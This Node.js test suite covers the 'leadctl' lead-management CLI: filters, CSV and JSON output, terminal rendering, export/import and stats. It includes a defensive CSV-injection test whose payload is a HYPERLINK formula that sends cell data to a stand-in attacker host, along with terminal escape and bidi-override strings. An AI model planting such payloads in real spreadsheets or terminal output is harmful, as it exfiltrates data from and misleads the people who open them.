// leadctl for daily work, each command with both stores.
'use strict';

const assert = require('node:assert');
const { execFile, spawn, spawnSync } = require('node:child_process');
const crypto = require('node:crypto');
const fs = require('node:fs');
const L = require('./lib.js');

const { test } = L;

// A test for each store; body gets the bench and a function that posts a lead of a name and gives its id.
function testBoth(name, body, settings = (bench) => bench.mailHere()) {
  for (const store of ['sqlite', 'table']) {
    test(`${name} (${store})`, async (t) => {
      const bench = new L.Bench(t);
      bench.configure({ ...(store === 'table' ? await bench.startTable() : {}), ...await settings(bench) });
      await bench.startLeadhook();
      await bench.startNginx();
      const post = async (lead = {}, customer = {}) => {
        const answer = await bench.post(L.lead(lead, customer));
        assert.strictEqual(answer.code, 200, answer.text);
        return answer.json.id;
      };
      await body(bench, post, store);
    });
  }
}

const names = (rows) => rows.map((row) => row.LastName).sort();

testBoth('list: the filters leave what they say', async (bench, post) => {
  await post({}, { LastName: 'A', Country: 'US', Email: 'ana@example.com' });
  await post({ LeadSource: 'AzureMarketplace-PLT|contoso.other', ActionCode: 'PLT' }, { LastName: 'B', Country: 'DE' });
  await post({}, { LastName: 'C', Country: 'DE', Phone: 'MSFT_TEST' });
  const listed = async (...filters) => {
    const result = await bench.leadctl('list', '--json', ...filters);
    assert.strictEqual(result.status, 0, result.stderr);
    return names(result.stdout.split('\n').filter(Boolean).map((line) => JSON.parse(line))).join('');
  };
  assert.strictEqual(await listed(), 'ABC');
  assert.strictEqual(await listed('--since', '1h'), 'ABC');
  assert.strictEqual(await listed('--since', '2999-01-01'), '');
  assert.strictEqual(await listed('--until', '1h'), '');
  assert.strictEqual(await listed('--offer', 'Contoso.Other'), 'B');
  assert.strictEqual(await listed('--action=plt'), 'B');
  assert.strictEqual(await listed('--country', 'de'), 'BC');
  assert.strictEqual(await listed('--contact', 'ANA@example.com'), 'A');
  assert.strictEqual(await listed('--test'), 'C');
  assert.strictEqual(await listed('--no-test'), 'AB');

  const unknown = await bench.leadctl('list', '--offer', 'contoso.nothing');
  assert.strictEqual(unknown.status, 66);
  assert.match(unknown.stderr, /leadctl offers/);
  const wrong = await bench.leadctl('list', '--since', 'yesterday');
  assert.strictEqual(wrong.status, 64);
  assert.match(wrong.stderr, /--since: a time is given as 12h/);
});

// Cells of CSV as RFC 4180 has them.
function parseCsv(text) {
  assert.ok(text.endsWith('\r\n'), 'the last row is ended too');
  const rows = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

testBoth('list: CSV is safe for a spreadsheet, and whole', async (bench, post) => {
  const words = { Description: '=HYPERLINK("http://evil.example/?"&A1,"x")', OfferTitle: 'Contoso, "App"' };
  const id = await post(words, { FirstName: 'two\r\nlines', LastName: '주식회사 예제', Phone: '+1 617 555 0100', Company: '@SUM(A1)', Title: 'a;b' });
  await L.until('the mail', async () => (await bench.list())[0].NotifiedTime);
  const csv = await bench.leadctl('list', '--csv');
  assert.strictEqual(csv.status, 0, csv.stderr);
  const [names, cells, ...rest] = parseCsv(csv.stdout);
  assert.deepStrictEqual([rest.length, names.length, cells.length], [0, 20, 20]);
  const lead = Object.fromEntries(names.map((name, i) => [name, cells[i]]));
  assert.match(lead.ReceivedTime, /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
  assert.deepStrictEqual([lead.Offer, lead.OfferDisplayName, lead.DeliveryId, lead.IsTest, lead.Deliveries], ['contoso.contoso-app', words.OfferTitle, id, 'false', '1']);
  assert.deepStrictEqual([lead.Description, lead.FirstName, lead.LastName, lead.Phone, lead.Company, lead.Title],
    [`'${words.Description}`, 'two\r\nlines', '주식회사 예제', "'+1 617 555 0100", "'@SUM(A1)", 'a;b']);
  assert.match(csv.stdout, /,"a;b",/);

  const marked = await bench.leadctl('list', '--csv', '--bom');
  assert.strictEqual(marked.stdout, `\ufeff${csv.stdout}`);
  const none = await bench.leadctl('list', '--csv', '--test');
  assert.strictEqual(parseCsv(none.stdout).length, 1, 'the names of the columns only');
  for (const wrong of [['--bom'], ['--all'], ['-n'], ['-n', '1001'], ['--all', 'x']]) assert.strictEqual((await bench.leadctl('list', ...wrong)).status, 64, wrong.join(' '));
});

testBoth('list: --all has every lead, in no order and without a bound', async (bench, post) => {
  const sent = [];
  for (let i = 0; i < 30; i++) sent.push(await post({}, { LastName: `L${i}` }));
  const ids = (stdout) => stdout.split('\n').filter(Boolean).map((line) => JSON.parse(line).DeliveryId);
  const all = await bench.leadctl('list', '--all', '--json');
  assert.deepStrictEqual(ids(all.stdout).sort(), [...sent].sort());
  // Two may have come in the same millisecond.
  const newest = rowsOf((await bench.leadctl('list', '--json')).stdout);
  const times = (rows) => rows.map((row) => row.ReceivedTime);
  const shown = new Set(newest.map((row) => row.DeliveryId));
  const others = rowsOf(all.stdout).filter((row) => !shown.has(row.DeliveryId));
  assert.deepStrictEqual([shown.size, others.length, times(newest)], [20, 10, times(newest).sort().reverse()]);
  assert.ok(times(newest).at(-1) >= times(others).sort().at(-1));
  assert.strictEqual(parseCsv((await bench.leadctl('list', '--all', '--csv')).stdout).length, 31);
});

// What leadctl shows on a terminal of 100 columns, as the terminal gets it; escape sequences and all.
async function onTerminal(bench, words, environment = {}, before = '') {
  const command = `stty cols 100; ${before} exec ${L.build}/leadctl --config ${bench.config} ${words}`;
  const env = { ...process.env, TERM: 'xterm', PAGER: 'cat', SHELL: '/bin/sh', ...environment };
  for (const name of Object.keys(env)) if (env[name] === null) delete env[name];
  return new Promise((resolve) => {
    execFile('script', ['-qefc', command, '/dev/null'], { env, timeout: 30000 },
      (error, stdout) => resolve({ status: error ? error.code : 0, stdout: stdout.replaceAll('\r\n', '\n') }));
  });
}

test('on a terminal: a table that fits, colours unless NO_COLOR, a pager', async (t) => {
  const bench = new L.Bench(t);
  bench.configure(bench.mailHere());
  await bench.startLeadhook();
  await bench.startNginx();
  const long = 'long words '.repeat(10);
  const send = async (...lead) => assert.strictEqual((await bench.post(L.lead(...lead))).code, 200);
  await send({}, { FirstName: long, LastName: 'Test', Company: long, Email: `${'x'.repeat(60)}@example.com`, Phone: 'MSFT_TEST' });
  await send({}, { LastName: '주식회사 예제 주식회사 예제', Company: '주식회사 예제' });
  await L.until('the mails', async () => (await bench.list()).every((row) => row.NotifiedTime)); // the table shows them

  const shown = await onTerminal(bench, 'list', { NO_COLOR: '1' });
  assert.strictEqual(shown.status, 0, shown.stdout);
  const width = (line) => [...line].reduce((sum, c) => sum + (/[\uac00-\ud7a3]/.test(c) ? 2 : 1), 0);
  const lines = shown.stdout.trimEnd().split('\n');
  assert.strictEqual(lines.length, 3, shown.stdout);
  for (const line of lines) assert.ok(width(line) <= 100 && !/[\u0000-\u001f]/.test(line), line);
  assert.match(lines[2], / {2}long wor\.\.\. .* test$/);
  const email = lines.slice(1).map((line) => width(line.slice(0, line.search(/ana\d+@|xxxx/))));
  assert.strictEqual(email[0], email[1], 'wide characters are counted as wide');

  const coloured = await onTerminal(bench, 'list');
  assert.match(coloured.stdout, /^\u001b\[1mRECEIVED/);
  assert.strictEqual(coloured.stdout.replace(/\u001b\[\d+m/g, ''), shown.stdout);
  assert.strictEqual((await onTerminal(bench, 'list', { NO_COLOR: '' })).stdout, coloured.stdout, 'empty is not set');
  assert.strictEqual((await onTerminal(bench, 'list', { TERM: 'dumb' })).stdout, shown.stdout);
  assert.doesNotMatch((await bench.leadctl('list')).stdout, /\u001b/);

  const paged = await onTerminal(bench, 'list', { NO_COLOR: '1', PAGER: "sed 's/^/paged: /'" });
  assert.strictEqual(paged.stdout, shown.stdout.replace(/^(?=.)/gm, 'paged: '));
  assert.doesNotMatch((await onTerminal(bench, 'list --json', { PAGER: "sed 's/^/paged: /'" })).stdout, /paged/);
  const left = await onTerminal(bench, 'list', { PAGER: 'true' });
  assert.deepStrictEqual([left.status, left.stdout], [0, ''], 'a pager that ends at once');
  const none = await onTerminal(bench, 'list', { NO_COLOR: '1', PAGER: null }, 'PATH=/nonexistent;');
  assert.strictEqual(none.stdout, shown.stdout, 'no pager there');
});

test('on a terminal: JSON has no character that it would obey, and means the same', async (t) => {
  const bench = new L.Bench(t);
  bench.configure(bench.mailHere());
  await bench.startLeadhook();
  await bench.startNginx();
  const said = 'a\u009b31mred\u007f \u202eevil\u2066 \u{e0041}\u00fc\u{1f600} \u001b[2J';
  const { json: { id } } = await bench.post(L.lead({ Description: said, OfferTitle: said, LeadSource: `AzureMarketplace-INS|${said}` }, { Company: said, Email: 'words@example.com' }));
  for (const command of ['list --json', 'list --all --json', `show ${id} --json`, 'offers --json', 'stats --json', 'export', 'person export words@example.com']) {
    const shown = await onTerminal(bench, command);
    assert.strictEqual(shown.status, 0, shown.stdout);
    assert.doesNotMatch(shown.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u{e0041}]/u, command);
    if (/^(list|show|export)/.test(command)) assert.strictEqual(JSON.parse(shown.stdout.trim().split('\n')[0]).Description, said, command);
    assert.ok(shown.stdout.includes('\u{1f600}') || command.startsWith('stats'), `${command}: ${shown.stdout}`);
  }
});

test('a reader who has seen enough is no failure', async (t) => {
  const bench = new L.Bench(t);
  bench.configure(bench.mailHere());
  await bench.startLeadhook();
  await bench.startNginx();
  assert.strictEqual((await bench.post(L.lead())).code, 200);
  const closed = 'import os, subprocess, sys\nr, w = os.pipe()\nos.close(r)\nsys.exit(subprocess.run(sys.argv[1:], stdout=w).returncode)';
  for (const words of [['list'], ['list', '--json'], ['list', '--all', '--csv']]) {
    const result = spawnSync('python3', ['-c', closed, `${L.build}/leadctl`, '--config', bench.config, ...words], { encoding: 'utf8' });
    assert.deepStrictEqual([result.status, result.stderr], [0, ''], words.join(' '));
  }
  const full = spawnSync('sh', ['-c', `${L.build}/leadctl --config ${bench.config} list >/dev/full`], { encoding: 'utf8' });
  assert.deepStrictEqual([full.status, full.stderr], [69, 'leadctl: cannot write the list: No space left on device\n']);
});

const lines = (text) => text.split('\n').filter(Boolean);
const rowsOf = (text) => lines(text).map((line) => JSON.parse(line));

// A configuration beside the bench's, with an empty store of the same kind; gives what runs leadctl with it.
function elsewhere(bench, name, more = {}) {
  const settings = { ...bench.settings, listen: null, spool: null, relay_socket: bench.file(`${name}.relay`), ...(bench.settings.store === 'table' ? { table_name: name } : { store: `sqlite:${bench.file(`${name}.db`)}` }), ...more };
  const text = Object.entries(settings).filter(([, value]) => value !== null).map(([key, value]) => `${key} = ${value}\n`).join('');
  const config = bench.write(`${name}.conf`, text);
  return (...args) => bench.run('leadctl', '--config', config, ...args);
}

testBoth('export and import: rows come back whole, once, and without a mail', async (bench, post) => {
  for (const name of ['A', 'B', '주식회사']) await post({ Description: 'x'.repeat(40000) }, { LastName: name });
  await post({ LeadSource: 'AzureMarketplace-PLT|contoso.other', ActionCode: 'PLT' });
  await L.until('the mails', async () => (await bench.list()).every((row) => row.NotifiedTime));
  const file = bench.file('leads.jsonl');
  const done = await bench.leadctl('export', '--output', file);
  assert.deepStrictEqual([done.status, done.stdout, done.stderr], [0, '', 'leadctl: 4 leads exported\n']);
  assert.strictEqual(fs.statSync(file).mode & 0o777, 0o600);
  const text = fs.readFileSync(file, 'utf8');
  assert.deepStrictEqual(rowsOf(text).map((row) => row.PartitionKey), ['contoso.contoso-app', 'contoso.contoso-app', 'contoso.contoso-app', 'contoso.other']);
  for (const row of rowsOf(text)) assert.strictEqual(row['ReceivedTime@odata.type'], 'Edm.DateTime');
  assert.deepStrictEqual((await bench.leadctl('export')).stdout, text, 'the same on the standard output');
  assert.deepStrictEqual(rowsOf((await bench.leadctl('export', '--offer', 'contoso.other')).stdout).length, 1);

  const again = await bench.leadctl('export', '--output', file);
  assert.strictEqual(again.status, 73);
  assert.match(again.stderr, /is there already: --resume goes on/);
  assert.strictEqual(fs.readFileSync(file, 'utf8'), text);

  const there = elsewhere(bench, 'Imported');
  const first = await there('import', file);
  assert.deepStrictEqual([first.status, first.stdout, first.stderr], [0, '4 leads added, 0 there already\n', '']);
  const sorted = (value) => JSON.stringify(Object.entries(value).sort());
  assert.deepStrictEqual(rowsOf((await there('export')).stdout).map(sorted), rowsOf(text).map(sorted));
  assert.deepStrictEqual((await there('import', file)).stdout, '0 leads added, 4 there already\n');
  assert.deepStrictEqual(rowsOf((await there('list', '--json')).stdout).length, 4, 'in the directory of offers');
  const before = bench.maildir().length;
  assert.strictEqual((await there('relay', '--once')).status, 0);
  assert.strictEqual(bench.maildir().length, before, 'no mail');

  // With --mail, about those that nobody was told of.
  const untold = lines(text).map((line, i) => (i === 0 ? line : line.replace(/,"NotifiedTime@odata\.type":"[^"]*","NotifiedTime":"[^"]*"/, '')));
  const mailing = elsewhere(bench, 'Mailed', { mail_url: `maildir:${bench.file('Others')}` });
  const mailed = await mailing('import', bench.write('untold.jsonl', untold.join('\n')), '--mail');
  assert.deepStrictEqual([mailed.status, mailed.stdout], [0, '4 leads added, 0 there already, 3 mails to be sent\n']);
  assert.strictEqual((await mailing('relay', '--once')).status, 0);
  assert.strictEqual(fs.readdirSync(bench.file('Others/new')).length, 3);
  const off = await elsewhere(bench, 'Off', { mail_url: 'off' })('import', file, '--mail');
  assert.strictEqual(off.status, 78);
});

testBoth('export: one that was cut off goes on, wherever it was cut', async (bench, post) => {
  for (let i = 0; i < 3; i++) await post();
  for (let i = 0; i < 2; i++) await post({ LeadSource: 'AzureMarketplace-INS|contoso.other' });
  await L.until('the mails', async () => (await bench.list()).every((row) => row.NotifiedTime));
  const { stdout: whole } = await bench.leadctl('export');
  const ends = [...whole.matchAll(/\n/g)].map((match) => match.index + 1);
  assert.strictEqual(ends.length, 5);
  for (const [size, left] of [[0, 5], [1, 5], [ends[0] - 1, 5], [ends[0], 4], [ends[0] + 10, 4], [ends[2], 2], [ends[3] + 5, 1], [whole.length, 0]]) {
    const file = bench.write('cut.jsonl', whole.slice(0, size));
    const result = await bench.leadctl('export', '--output', file, '--resume');
    assert.strictEqual(result.status, 0, result.stderr);
    assert.match(result.stderr, new RegExp(`^leadctl: ${left} leads? exported`), String(size));
    assert.strictEqual(fs.readFileSync(file, 'utf8'), whole, String(size));
  }
  const long = bench.write('long.jsonl', whole.slice(0, ends[3]) + 'x'.repeat(100000)); // longer than what is to come
  assert.strictEqual((await bench.leadctl('export', '--output', long, '--resume')).status, 0);
  assert.strictEqual(fs.readFileSync(long, 'utf8'), whole);
  for (const text of ['not an export\n', 'nor is this, which has no end of a line', '{"Partition":"like it"}']) {
    const other = await bench.leadctl('export', '--output', bench.write('other.txt', text), '--resume');
    assert.strictEqual(other.status, 73, other.stderr);
    assert.match(other.stderr, /not of an export/);
    assert.strictEqual(fs.readFileSync(bench.file('other.txt'), 'utf8'), text);
  }
  assert.strictEqual((await bench.leadctl('export', '--resume')).status, 64);
  assert.strictEqual((await bench.leadctl('export', '--output', bench.file('none/x'))).status, 73);
});

testBoth('import: a line that cannot be taken is told, the others are taken', async (bench, post) => {
  for (let i = 0; i < 3; i++) await post();
  const { stdout: whole } = await bench.leadctl('export');
  const [a, b, c] = lines(whole);
  const there = elsewhere(bench, 'Partly');
  const strange = a.replace('"Deliveries":1', '"Deliveries":99999999999'); // more than an Int32
  const bad = [a, '', 'no JSON', '{"PartitionKey":"x","RowKey":"y"}', a.replace('contoso.contoso-app', 'a/b'), strange, b, c.slice(0, -5)].join('\n');
  const result = await there('import', bench.write('bad.jsonl', bad));
  assert.deepStrictEqual([result.status, result.stdout], [65, '2 leads added, 0 there already, 5 lines not taken\n']);
  assert.deepStrictEqual(lines(result.stderr).map((line) => /^leadctl: line (\d+): ./.exec(line)?.[1]), ['3', '4', '5', '6', '8']);
  assert.deepStrictEqual(rowsOf((await there('export')).stdout).length, 2);
  const long = await there('import', bench.write('long.jsonl', `${a}\n${'x'.repeat(8 << 20)}\n${c}\n`));
  assert.deepStrictEqual([long.status, long.stdout], [65, '1 lead added, 1 there already, 1 line not taken\n']);
  assert.match(long.stderr, /^leadctl: line 2: longer than 3145728 bytes$/m);
  assert.strictEqual((await there('import', bench.file('none'))).status, 66);
  for (const args of [[], ['a', 'b'], ['--mails', 'a']]) assert.strictEqual((await there('import', ...args)).status, 64);
});

// So many rows as an export has them, of a few offers, with payloads of some KiB.
function* madeUp(count) {
  const hex = (text) => crypto.createHash('md5').update(text).digest('hex');
  const time = (name, i) => `"${name}@odata.type":"Edm.DateTime","${name}":"${new Date(Date.UTC(2026, 0, 1) + i * 60000).toISOString()}"`;
  const payload = 'The words of a customer. '.repeat(160);
  for (let i = 0; i < count; i++) {
    yield `{"PartitionKey":"contoso.app${Math.floor(i * 3 / count)}","RowKey":"${hex(`c${i}`)}-${hex(`b${i}`)}","OfferDisplayName":"App","FirstName":"Ana","LastName":"L${i}",`
      + `"Email":"ana${i}@example.com","Country":"${i % 2 ? 'US' : 'DE'}","Action":"INS",${time('ReceivedTime', i)},${time('LastReceivedTime', i)},"Deliveries":1,`
      + `"LastDeliveryId":"${hex(`d${i}`)}","DeliveryId":"${hex(`d${i}`)}","IsTest":false,"DoNotContact":false,"PersonalDataWithheld":false,`
      + `"KeyName":"market",${time('NotifiedTime', i)},"Payload":"${payload}"}`;
  }
}

const anonymous = (pid) => Number(/^RssAnon:\s+(\d+) kB/m.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))[1]);

// Half of it is nothing for a process that lives as long as its work takes: what counts is what comes with more leads.
testBoth('export: memory does not grow with the leads', async (bench, post, store) => {
  const count = store === 'table' ? 3000 : 6000;
  const file = bench.write('made.jsonl', `${[...madeUp(count)].join('\n')}\n`);
  const imported = await bench.leadctl('import', file);
  assert.deepStrictEqual([imported.status, imported.stdout], [0, `${count} leads added, 0 there already\n`]);

  // It is read slowly and stands still while its memory is looked at: a pipe holds less than a page of rows.
  const child = spawn(`${L.build}/leadctl`, ['--config', bench.config, 'export'], { stdio: ['ignore', 'pipe', 'pipe'] });
  const ended = new Promise((resolve) => child.on('exit', resolve));
  let seen = 0;
  const samples = [];
  for await (const chunk of child.stdout) {
    const before = Math.floor(seen / (count / 10));
    for (const byte of chunk) seen += byte === 10;
    if (Math.floor(seen / (count / 10)) > before && seen < count * 0.95) samples.push(anonymous(child.pid));
  }
  assert.strictEqual(await ended, 0);
  assert.strictEqual(seen, count);
  assert.ok(samples.length >= 6, samples.join());
  // 4 KiB of payload a lead: what is between the samples would be 8 MiB and more.
  const [early, late] = [Math.max(...samples.slice(0, 3)), Math.max(...samples.slice(-3))];
  if (!L.isInstrumented) assert.ok(late - early < 2048, `RssAnon in KiB: ${samples.join()}`);
});

testBoth('show: everything about one lead, and its mails', async (bench, post) => {
  const body = L.lead({ Description: 'line one\nline two \u001b[31m' }, { LastName: 'Test', Company: 'Example' });
  const { json: { id } } = await bench.post(body);
  const { json: { id: second } } = await bench.post(body); // a repeat has an id of its own
  await post();
  await L.until('the mail', async () => (await bench.list()).every((row) => row.NotifiedTime));
  const shown = await bench.leadctl('show', id.slice(0, 8));
  assert.strictEqual(shown.status, 0, shown.stderr);
  for (const words of [`id            ${id}`, 'offer         contoso.contoso-app', 'delivered     2 times', 'last name     Test', 'line one\nline two \\x1B[31m', 'last sent     20', 'none waits',
    '"LastName":"Test"', 'key           market']) assert.ok(shown.stdout.includes(words), `${words}\n${shown.stdout}`);
  assert.ok(!shown.stdout.includes('\u001b'));
  assert.strictEqual((await bench.leadctl('show', second)).stdout, shown.stdout, 'by the id of its last delivery');
  const json = JSON.parse((await bench.leadctl('show', id, '--json')).stdout);
  assert.deepStrictEqual([json.DeliveryId, json.LastDeliveryId, json.Payload, json.Mails], [id, second, body, {}]);

  const none = await bench.leadctl('show', '0'.repeat(32));
  assert.strictEqual(none.status, 66);
  assert.match(none.stderr, /leadctl quarantine list/);
  for (const args of [[], ['x'], [id.slice(0, 7)], [id, 'x'], ['--all']]) assert.strictEqual((await bench.leadctl('show', ...args)).status, 64, args.join(' '));
});

testBoth('show: a mail that is parked says why', async (bench, post) => {
  const id = await post();
  await L.until('the try', async () => /parked/.test((await bench.leadctl('show', id)).stdout));
  const { stdout } = await bench.leadctl('show', id);
  assert.match(stdout, /sales@example\.com parked: nobody tries any more until `leadctl retry`\n +\S/);
  const { Mails } = JSON.parse((await bench.leadctl('show', id, '--json')).stdout);
  assert.deepStrictEqual(Object.values(Mails).map((mail) => [mail.Recipient, mail.State]), [['sales@example.com', 'parked']]);
}, async (bench) => {
  const smtp = await L.startSmtp(bench);
  smtp.faults = { rcpt: { code: 550 } };
  return smtp.settings();
});

testBoth('follow: new leads as they come, also one that came back; ends with 0', async (bench, post) => {
  const old = await post({}, { LastName: 'Old' });
  for (const format of ['table', 'json']) {
    const child = spawn(`${L.build}/leadctl`, ['--config', bench.config, 'follow', ...(format === 'json' ? ['--json'] : []), '--no-test'], { stdio: ['ignore', 'pipe', 'pipe'] });
    const ended = new Promise((resolve) => child.on('exit', (code, signal) => resolve(code ?? signal)));
    let text = '';
    child.stdout.on('data', (chunk) => { text += chunk; });
    child.stderr.on('data', (chunk) => { text += chunk; });
    // What comes before its first look is not new to it.
    const body = L.lead({}, { LastName: 'Fresh' });
    let shown;
    await L.until('the first new lead', async () => {
      shown = await post({}, { LastName: 'Another' });
      await post({}, { LastName: 'Tested', Phone: 'MSFT_TEST' });
      return text.includes('Another');
    });
    const { json: { id } } = await bench.post(body);
    await L.until('the lead', () => text.includes('Fresh'));
    assert.strictEqual((await bench.post(body)).json.status, 'repeat');
    const times = () => text.split('Fresh').length - 1;
    await L.until('the same customer again', () => times() === 2);
    await post({}, { LastName: 'Last' });
    await L.until('the last', () => text.includes('Last'));
    child.kill('SIGINT');
    assert.strictEqual(await ended, 0);
    assert.ok(!text.includes(old.slice(0, 8)) && !text.includes('Tested'), text);
    assert.strictEqual(times(), 2, 'each once');
    assert.ok(text.endsWith('\n'));
    if (format === 'json') for (const row of rowsOf(text)) assert.ok(row.DeliveryId && row.Offer);
    else assert.match(text, /^RECEIVED \(UTC\) /);
    assert.ok(text.includes(id.slice(0, 8)) && shown);
  }
});

test('follow: ends when nobody reads, and waits for a store that does not answer', async (t) => {
  const bench = new L.Bench(t);
  const table = await L.startFakeTable(bench);
  bench.configure({ store: 'table', table_connection_file: bench.write('connection', L.connectionString(table.port)) });
  const child = spawn(`${L.build}/leadctl`, ['--config', bench.config, 'follow'], { stdio: ['ignore', 'pipe', 'pipe'] });
  const ended = new Promise((resolve) => child.on('exit', (code, signal) => resolve(code ?? signal)));
  let errors = '';
  child.stderr.on('data', (chunk) => { errors += chunk; });
  await new Promise((resolve) => child.stdout.once('data', resolve)); // the titles
  await table.kill();
  await L.until('its words', () => /it is asked again until it answers\n/.test(errors));
  await table.start();
  await L.until('its words', () => /the store answers again\n/.test(errors));
  child.stdout.destroy();
  assert.strictEqual(await ended, 0, errors);
  assert.strictEqual(errors.split('\n').length, 3, errors);
});

testBoth('stats and offers count what there is', async (bench, post) => {
  await post({}, { Country: 'US' });
  await post({}, { Country: 'us', Phone: 'MSFT_TEST' });
  await post({ LeadSource: 'AzurePortal-DNC|contoso.other', ActionCode: 'DNC', OfferTitle: '=Other' }, { Country: '' });
  const json = async (...args) => JSON.parse((await bench.leadctl('stats', '--json', ...args)).stdout);
  const all = await json();
  const each = (n) => ({ all: n, day: n, week: n, month: n });
  assert.deepStrictEqual([all.leads, all.tests, all.do_not_contact, all.delivered_again], [each(3), each(1), each(1), each(0)]);
  assert.deepStrictEqual(all.by_offer, { 'contoso.contoso-app': each(2), 'contoso.other': each(1) });
  assert.deepStrictEqual(all.by_action, { INS: each(2), DNC: each(1) });
  assert.deepStrictEqual(all.by_source, { AzureMarketplace: each(2), AzurePortal: each(1) });
  assert.deepStrictEqual(Object.values(all.by_country), [each(2), each(1)]);
  assert.deepStrictEqual((await json('--no-test')).leads, each(2));
  const old = await bench.leadctl('import', bench.write('made.jsonl', [...madeUp(3)].join('\n')));
  assert.strictEqual(old.status, 0, old.stderr);
  assert.deepStrictEqual((await json()).leads, { all: 6, day: 3, week: 3, month: 3 });
  const { stdout: table } = await bench.leadctl('stats');
  assert.match(table, /^LEADS +ALL +24 HOURS +7 DAYS +30 DAYS\nleads +6 +3 +3 +3\ntests +1 +1 +1 +1\n/);
  assert.match(table, /\n\nBY OFFER +ALL .*\ncontoso\.contoso-app +2 +2 +2 +2\n/);
  assert.match(table, /\n\(none\) +1 +1 +1 +1\n/);

  const { stdout: offers } = await bench.leadctl('offers');
  assert.match(offers, /^OFFER +TITLE +FIRST LEAD \(UTC\) +LAST LEAD \(UTC\)\n/);
  assert.match(offers, /\ncontoso\.app1 +App +2026-01-01 00:01 +2026-01-01 00:01\n/);
  assert.match(offers, /\ncontoso\.other +=Other +20\d\d/);
  const listed = rowsOf((await bench.leadctl('offers', '--json')).stdout);
  assert.deepStrictEqual(listed.map((offer) => offer.Offer), ['contoso.app0', 'contoso.app1', 'contoso.app2', 'contoso.contoso-app', 'contoso.other']);
  assert.strictEqual(listed[0].FirstLeadTime, '2026-01-01T00:00:00.000Z');
});

test('an empty store has nothing to show, and says so', async (t) => {
  const bench = new L.Bench(t);
  bench.configure();
  for (const [words, says] of [[['list'], /no leads yet/], [['list', '--test'], /no lead is left by these filters/], [['offers'], /no offers yet/], [['stats'], /^LEADS .*\nleads +0 /],
    [['export'], /^$/], [['list', '--json'], /^$/]]) {
    const result = await bench.leadctl(...words);
    assert.strictEqual(result.status, 0, result.stderr);
    assert.match(result.stdout, says, words.join(' '));
  }
});

test('on a terminal long work shows how far it is, and otherwise nothing', async (t) => {
  const bench = new L.Bench(t);
  bench.configure();
  const file = bench.write('made.jsonl', `${[...madeUp(4000)].join('\n')}\n`);
  const imported = await onTerminal(bench, `import ${file}`);
  assert.strictEqual(imported.status, 0, imported.stdout);
  assert.match(imported.stdout, /\r\u001b\[K\[#*\.+\] +\d+ % {2}\d+/);
  assert.match(imported.stdout, /\r\u001b\[K4000 leads added, 0 there already\n$/);
  const exported = await onTerminal(bench, `export --output ${bench.file('out.jsonl')}`);
  assert.match(exported.stdout, /\r\u001b\[K\[#*\.+\] +\d+ % {2}\d+/);
  assert.match(exported.stdout, /\r\u001b\[Kleadctl: 4000 leads exported\n$/);
  for (const part of exported.stdout.split('\r')) assert.ok(part.length <= 80, part);
  const silent = await bench.leadctl('export', '--output', bench.file('silent.jsonl'));
  assert.strictEqual(silent.stderr, 'leadctl: 4000 leads exported\n');
});
